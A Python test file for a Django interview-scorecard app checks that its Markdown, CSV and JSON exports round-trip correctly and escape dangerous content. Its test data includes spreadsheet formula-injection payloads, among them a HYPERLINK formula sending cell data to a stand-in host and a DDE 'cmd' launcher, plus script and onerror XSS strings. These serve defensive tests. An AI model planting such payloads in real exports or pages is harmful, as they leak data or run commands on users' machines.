"""Markdown, CSV and JSON exports: downloads that read back equal to the scorecard."""

import csv
import datetime as dt
import io
import json
import re

import pytest
from django.urls import NoReverseMatch, reverse

from config.csv_safety import restore
from interviews import exports, reports, services
from interviews.models import Amendment, Interview, InterviewStatus
from questionbank.models import Kind
from tests.factories import QuestionFactory

from .conftest import make_status

TRICKY = "Said \"it depends\", then: a, b, c;\nsecond line — naïve café ✓\n'quoted' |pipe|"


def export_url(interview, fmt):
    return reverse("interviews:export", args=[interview.pk, fmt])


@pytest.fixture
def scored(live_interview):
    """Submitted: question 1 scored 3 with tricky notes, 2 skipped, 3 unscored."""
    first, second, third = live_interview.items.order_by("position")
    services.item_score(item=first, score=3)
    services.item_save_notes(item=first, notes=TRICKY, base_version=0)
    services.item_add_time(item=first, seconds=125)
    services.item_score(item=second, skipped=True)
    services.item_save_notes(item=third, notes='=SUM(A1:A2), "x"', base_version=0)
    return services.interview_submit(
        interview=live_interview,
        recommendation="no_hire",
        summary='Mixed, with a "but", and commas.',
        allow_unscored=True,
    )


def card_of(interview):
    return reports.build_scorecard(Interview.objects.with_items().get(pk=interview.pk))


def test_csv_reads_back_equal(client, interviewer, scored):
    client.force_login(interviewer)
    response = client.get(export_url(scored, "csv"))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert f'filename="scorecard-cam-candidate-{scored.submitted_at.date()}-{scored.pk}.csv"' in (
        disposition
    )
    raw = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"), newline="")))
    # A spreadsheet shows the formula-like note as text; the reader strips the guard again.
    assert raw[2]["notes"] == "'" + '=SUM(A1:A2), "x"'
    rows = [{k: restore(v) for k, v in row.items()} for row in raw]
    assert list(rows[0]) == [
        "position",
        "text",
        "topics",
        "kind",
        "difficulty",
        "score",
        "score_label",
        "skipped",
        "notes",
        "seconds",
    ]
    assert rows == [
        {
            "position": "1",
            "text": "RAG question at difficulty 1?",
            "topics": "RAG",
            "kind": "conceptual",
            "difficulty": "1",
            "score": "3",
            "score_label": "Good",
            "skipped": "no",
            "notes": TRICKY,
            "seconds": "125",
        },
        {
            "position": "2",
            "text": "RAG question at difficulty 2?",
            "topics": "RAG",
            "kind": "conceptual",
            "difficulty": "2",
            "score": "",
            "score_label": "",
            "skipped": "yes",
            "notes": "",
            "seconds": "0",
        },
        {
            "position": "3",
            "text": "RAG question at difficulty 3?",
            "topics": "RAG",
            "kind": "conceptual",
            "difficulty": "3",
            "score": "",
            "score_label": "",
            "skipped": "no",
            "notes": '=SUM(A1:A2), "x"',
            "seconds": "0",
        },
    ]
    assert rows[0]["notes"] == TRICKY and rows[0]["score_label"] == "Good"
    assert rows[0]["seconds"] == "125"
    assert rows[2]["notes"] == '=SUM(A1:A2), "x"'
    # The means computed from the CSV equal the scorecard's.
    card = card_of(scored)
    scores = [int(r["score"]) for r in rows if r["score"]]
    assert reports.Mean(scores).value == card.overall.value
    rag = [int(r["score"]) for r in rows if r["score"] and "RAG" in r["topics"].split("; ")]
    assert reports.Mean(rag).value == card.topic_means()["rag"]


def test_json_reads_back_equal(client, hiring_manager, scored):
    client.force_login(hiring_manager)
    response = client.get(export_url(scored, "json"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/json")
    assert 'filename="scorecard-cam-candidate-' in response["Content-Disposition"]
    data = json.loads(response.content)
    card = card_of(scored)
    meta = data["interview"]
    assert meta["id"] == scored.pk and meta["candidate"] == "Cam Candidate"
    assert meta["interviewer"] == "ines" and meta["level"] == "Engineer"
    assert meta["status"] == "submitted" and meta["submitted_at"] == scored.submitted_at.isoformat()
    assert data["recommendation"] == "no_hire" and data["recommendation_label"] == "No hire"
    assert data["summary"] == 'Mixed, with a "but", and commas.'
    assert data["questions"] == [
        {
            "position": 1,
            "text": "RAG question at difficulty 1?",
            "topics": ["RAG"],
            "kind": "conceptual",
            "difficulty": 1,
            "score": 3,
            "score_label": "Good",
            "skipped": False,
            "notes": TRICKY,
            "seconds": 125,
        },
        {
            "position": 2,
            "text": "RAG question at difficulty 2?",
            "topics": ["RAG"],
            "kind": "conceptual",
            "difficulty": 2,
            "score": None,
            "score_label": "",
            "skipped": True,
            "notes": "",
            "seconds": 0,
        },
        {
            "position": 3,
            "text": "RAG question at difficulty 3?",
            "topics": ["RAG"],
            "kind": "conceptual",
            "difficulty": 3,
            "score": None,
            "score_label": "",
            "skipped": False,
            "notes": '=SUM(A1:A2), "x"',
            "seconds": 0,
        },
    ]
    assert data["questions"][0]["notes"] == TRICKY
    assert [q["score"] for q in data["questions"]] == [3, None, None]
    assert data["questions"][1]["skipped"] is True
    assert {t["slug"]: t["mean"] for t in data["topics"]} == {
        slug: (float(v) if v is not None else None) for slug, v in card.topic_means().items()
    }
    assert data["topics"][0] == {
        "slug": "rag",
        "name": "RAG",
        "questions": 3,
        "scores": [3],
        "skipped": 1,
        "unscored": 1,
        "mean": 3.0,
    }
    assert data["overall"] == {"scores": [3], "skipped": 1, "unscored": 1, "mean": 3.0}
    assert data["amendments"] == []


def test_json_lists_amendments_and_exact_means(client, interviewer, submitted):
    # submitted: scores 1, 2, 3 on three RAG questions.
    first = submitted.items.order_by("position").first()
    services.interview_amend(
        interview=submitted, user=interviewer, reason="Typo", scores={first.pk: 2}
    )
    client.force_login(interviewer)
    data = json.loads(client.get(export_url(submitted, "json")).content)
    assert data["overall"]["scores"] == [2, 2, 3]
    assert data["overall"]["mean"] == 2.33
    assert data["topics"][0]["mean"] == 2.33
    assert data["amendments"][0]["reason"] == "Typo"
    assert data["amendments"][0]["user"] == "ines"
    assert data["amendments"][0]["changes"] == [
        {"field": "score", "question": 1, "old": 1, "new": 2}
    ]


def test_markdown_is_a_readable_scorecard(client, interviewer, scored):
    client.force_login(interviewer)
    response = client.get(export_url(scored, "md"))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/markdown; charset=utf-8"
    assert response["Content-Disposition"].endswith('.md"')
    text = response.content.decode()
    assert text.startswith(f"# Scorecard: {scored.title}\n")
    assert "- Candidate: Cam Candidate" in text and "- Interviewer: ines" in text
    assert "## Recommendation: No hire" in text
    assert "| RAG | (3) / 1 = 3.00 | 3.00 |" in text
    assert "| **Overall** | (3) / 1 = 3.00 | **3.00** |" in text
    assert "- Score: 3 Good" in text and "- Score: skipped" in text
    assert "- Score: not scored" in text
    assert "- Time: 2:05" in text
    # Notes are quoted line by line.
    assert '> Said "it depends", then: a, b, c;\n> second line — naïve café ✓' in text


FORMULAS = [
    '=HYPERLINK("http://example.invalid/"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tindented=1",
    "\rcarriage",
    "'=already quoted",
]


def test_csv_neutralises_every_formula_cell_and_reads_back(
    client, interviewer, live_interview, bank
):
    """OWASP: a cell starting with = + - @ tab or CR is written with a leading quote; the
    reader (config.csv_safety.restore) gets back exactly what was typed."""
    for question in bank[3:7]:
        services.interview_add_question(interview=live_interview, question=question)
    items = list(live_interview.items.order_by("position"))
    assert len(items) == len(FORMULAS)
    for item, text in zip(items, FORMULAS, strict=True):
        services.item_save_notes(item=item, notes=text, base_version=0)
    services.interview_submit(
        interview=live_interview,
        recommendation="hire",
        summary="=1+1 in the summary is not exported to CSV",
        allow_unscored=True,
    )
    client.force_login(interviewer)
    body = client.get(export_url(live_interview, "csv")).content.decode()
    raw = list(csv.DictReader(io.StringIO(body, newline="")))
    for row, text in zip(raw, FORMULAS, strict=True):
        assert row["notes"] == "'" + text
        assert restore(row["notes"]) == text
    for row in raw:  # no cell at all starts like a formula
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_markdown_escapes_html(client, interviewer, live_interview):
    item = live_interview.items.first()
    services.item_save_notes(
        item=item, notes="<script>alert(1)</script> & <b>bold</b>", base_version=0
    )
    services.interview_submit(
        interview=live_interview,
        recommendation="hire",
        summary='<img src=x onerror="alert(2)">',
        allow_unscored=True,
    )
    client.force_login(interviewer)
    text = client.get(export_url(live_interview, "md")).content.decode()
    assert "<script" not in text and "<img" not in text and "<b>" not in text
    assert "> &lt;script&gt;alert(1)&lt;/script&gt; &amp; &lt;b&gt;bold&lt;/b&gt;" in text
    assert '&lt;img src=x onerror="alert(2)"&gt;' in text


def test_export_permissions_and_formats(
    client, interviewer, other_interviewer, hiring_manager, submitted
):
    target = export_url(submitted, "csv")
    response = client.get(target)
    assert response.status_code == 302 and response["Location"].startswith(reverse("login"))
    client.force_login(other_interviewer)
    for fmt in ("md", "csv", "json"):
        assert client.get(export_url(submitted, fmt)).status_code == 404
    client.force_login(hiring_manager)
    assert client.get(target).status_code == 200
    client.force_login(interviewer)
    for fmt in ("md", "csv", "json"):
        assert client.get(export_url(submitted, fmt)).status_code == 200
    for fmt in ("pdf", "xlsx", "html", ""):
        assert client.get(f"/interviews/{submitted.pk}/export.{fmt}").status_code == 404
    assert client.post(target).status_code == 405


def test_links_url_and_view_read_one_registry(client, interviewer, submitted):
    assert list(exports.SCORECARD_EXPORTS) == ["md", "csv", "json"]
    client.force_login(interviewer)
    html = client.get(reverse("interviews:scorecard", args=[submitted.pk])).content.decode()
    pk = submitted.pk
    assert re.findall(r'<a href="([^"]+)" download>Export (\w+)</a>', html) == [
        (f"/interviews/{pk}/export.md", "Markdown"),
        (f"/interviews/{pk}/export.csv", "CSV"),
        (f"/interviews/{pk}/export.json", "JSON"),
    ]
    with pytest.raises(NoReverseMatch):  # a key outside the registry has no URL
        reverse("interviews:export", args=[pk, "pdf"])


@pytest.mark.parametrize("status", [InterviewStatus.DRAFT, InterviewStatus.LIVE])
def test_no_export_before_submission(client, interviewer, hiring_manager, draft, status):
    interview = make_status(draft, status)
    for reader in (interviewer, hiring_manager):
        client.force_login(reader)
        assert client.get(export_url(interview, "json")).status_code == 404


def test_export_query_count_does_not_grow(
    client, interviewer, submitted, big_interview, django_assert_num_queries
):
    big = make_status(big_interview, InterviewStatus.SUBMITTED)
    client.force_login(interviewer)
    for interview in (submitted, big):
        for fmt in ("md", "csv", "json"):
            # session, user, their groups (the rules), interview, items, amendments, audit row
            with django_assert_num_queries(7):
                assert client.get(export_url(interview, fmt)).status_code == 200


# -- The Markdown export, byte for byte ------------------------------------------------------

START = dt.datetime(2026, 3, 4, 9, 0, tzinfo=dt.UTC)


def pin_times(interview):
    """Fixed start, submission and amendment times, so the export can be written out in full."""
    Interview.objects.filter(pk=interview.pk).update(
        started_at=START, submitted_at=START + dt.timedelta(minutes=47, seconds=5)
    )
    Amendment.objects.filter(interview=interview).update(created_at=START + dt.timedelta(hours=2))


def test_markdown_in_full(client, interviewer, scored):
    pin_times(scored)
    client.force_login(interviewer)
    assert client.get(export_url(scored, "md")).content.decode() == MARKDOWN_SCORED


@pytest.fixture
def rich(draft, bank, topics):
    """Submitted and amended: a question in two topics with Markdown and HTML in its text, notes
    over several lines with a blank one, a summary over two lines."""
    question = QuestionFactory(
        text="Compare | contrast <RAG> & fine-tuning\nin two lines?",
        kind=Kind.BEHAVIORAL,
        difficulty=4,
        levels=[draft.level],
        topics=topics[:2],
    )
    services.interview_add_question(interview=draft, question=question)
    interview = services.interview_start(interview=draft)
    first, second, third, fourth = interview.items.order_by("position")
    services.item_score(item=first, score=1)
    services.item_score(item=second, score=4)
    services.item_score(item=fourth, score=3)
    services.item_save_notes(
        item=fourth, notes="First *line* | a\n\n  <em>indented</em> & more  \n", base_version=0
    )
    services.item_add_time(item=fourth, seconds=3725)
    interview = services.interview_submit(
        interview=interview,
        recommendation="strong_hire",
        summary="Two:\n<b>b</b> | p",
        allow_unscored=True,
    )
    services.interview_amend(
        interview=interview,
        user=interview.interviewer,
        reason="Typo | <b>oops</b>\nnext",
        recommendation="hire",
        scores={first.pk: 2, third.pk: 4},
        notes={first.pk: "new | note"},
        summary="Now:\n<b>b</b> | p",
    )
    pin_times(interview)
    return interview


def test_markdown_in_full_with_amendments(client, interviewer, rich):
    client.force_login(interviewer)
    assert client.get(export_url(rich, "md")).content.decode() == MARKDOWN_RICH


MARKDOWN_SCORED = """# Scorecard: Engineer interview with Cam Candidate

- Candidate: Cam Candidate
- Interviewer: ines
- Level: Engineer
- Status: Submitted
- Started: 2026-03-04T09:00:00+00:00
- Submitted: 2026-03-04T09:47:05+00:00
- Duration: 47:05 (planned 45 min; recorded on questions 2:05)

## Recommendation: No hire

Mixed, with a "but", and commas.

## Scores by topic

Skipped and unscored questions are left out; a question with several topics counts in each of them.

| Topic | Arithmetic | Mean |
| --- | --- | --- |
| RAG | (3) / 1 = 3.00 | 3.00 |
| **Overall** | (3) / 1 = 3.00 | **3.00** |

## Questions

### 1. RAG question at difficulty 1?

- Topics: RAG
- Kind: Conceptual; difficulty 1
- Score: 3 Good
- Time: 2:05

Notes:

> Said "it depends", then: a, b, c;
> second line — naïve café ✓
> 'quoted' |pipe|

### 2. RAG question at difficulty 2?

- Topics: RAG
- Kind: Conceptual; difficulty 2
- Score: skipped
- Time: 0:00

### 3. RAG question at difficulty 3?

- Topics: RAG
- Kind: Conceptual; difficulty 3
- Score: not scored
- Time: 0:00

Notes:

> =SUM(A1:A2), "x"
"""
MARKDOWN_RICH = r"""# Scorecard: Engineer interview with Cam Candidate

- Candidate: Cam Candidate
- Interviewer: ines
- Level: Engineer
- Status: Submitted
- Started: 2026-03-04T09:00:00+00:00
- Submitted: 2026-03-04T09:47:05+00:00
- Duration: 47:05 (planned 45 min; recorded on questions 1:00:00)

## Recommendation: Hire

Now:
&lt;b&gt;b&lt;/b&gt; | p

## Scores by topic

Skipped and unscored questions are left out; a question with several topics counts in each of them.

| Topic | Arithmetic | Mean |
| --- | --- | --- |
| RAG | (2 + 4 + 4 + 3) / 4 = 3.25 | 3.25 |
| Inference | (3) / 1 = 3.00 | 3.00 |
| **Overall** | (2 + 4 + 4 + 3) / 4 = 3.25 | **3.25** |

## Questions

### 1. RAG question at difficulty 1?

- Topics: RAG
- Kind: Conceptual; difficulty 1
- Score: 2 Mixed
- Time: 0:00

Notes:

> new | note

### 2. RAG question at difficulty 2?

- Topics: RAG
- Kind: Conceptual; difficulty 2
- Score: 4 Excellent
- Time: 0:00

### 3. RAG question at difficulty 3?

- Topics: RAG
- Kind: Conceptual; difficulty 3
- Score: 4 Excellent
- Time: 0:00

### 4. Compare \| contrast &lt;RAG&gt; &amp; fine-tuning in two lines?

- Topics: RAG, Inference
- Kind: Behavioral; difficulty 4
- Score: 3 Good
- Time: 1:00:00

Notes:

> First *line* | a
>
>   &lt;em&gt;indented&lt;/em&gt; &amp; more

## Amendments

- 2026-03-04T11:00:00+00:00 by ines: Typo \| &lt;b&gt;oops&lt;/b&gt; next
  - Recommendation: Strong hire -> Hire
  - Summary: Two: &lt;b&gt;b&lt;/b&gt; \| p -> Now: &lt;b&gt;b&lt;/b&gt; \| p
  - Score of question 1: 1 Poor -> 2 Mixed
  - Score of question 3: no score -> 4 Excellent
  - Notes of question 1: (empty) -> new \| note
"""


# -- The measures tables' downloads ------------------------------------------------------------

TABLE = exports.MeasureTable(
    name="calibration",
    computed_at=dt.datetime(2026, 3, 4, 9, 5, 30, tzinfo=dt.UTC),
    rows=[
        {"name": "Ines, the lead", "interviewer": 3, "leniency": 0.25, "reason": ""},
        {"name": "=cmd", "interviewer": 4, "leniency": None, "reason": "too few items"},
    ],
)


def test_measure_table_formats_in_full():
    assert list(exports.TABLE_EXPORTS) == ["csv", "json"]
    as_csv, as_json = exports.TABLE_EXPORTS["csv"], exports.TABLE_EXPORTS["json"]
    assert (as_csv.label, as_csv.content_type) == ("CSV", "text/csv; charset=utf-8")
    assert (as_json.label, as_json.content_type) == ("JSON", "application/json")
    assert as_csv.filename(TABLE) == "measures-calibration-20260304-0905.csv"
    assert as_csv.render(TABLE) == (
        "name,interviewer,leniency,reason\r\n"
        '"Ines, the lead",3,0.25,\r\n'
        "'=cmd,4,,too few items\r\n"
    )
    assert as_json.render(TABLE) == (
        "{\n"
        ' "measure": "calibration",\n'
        ' "computed_at": "2026-03-04T09:05:30+00:00",\n'
        ' "rows": [\n'
        "  {\n"
        '   "name": "Ines, the lead",\n'
        '   "interviewer": 3,\n'
        '   "leniency": 0.25,\n'
        '   "reason": ""\n'
        "  },\n"
        "  {\n"
        '   "name": "=cmd",\n'
        '   "interviewer": 4,\n'
        '   "leniency": null,\n'
        '   "reason": "too few items"\n'
        "  }\n"
        " ]\n"
        "}"
    )
    assert as_csv.render(exports.MeasureTable("agreement", TABLE.computed_at, [])) == ""
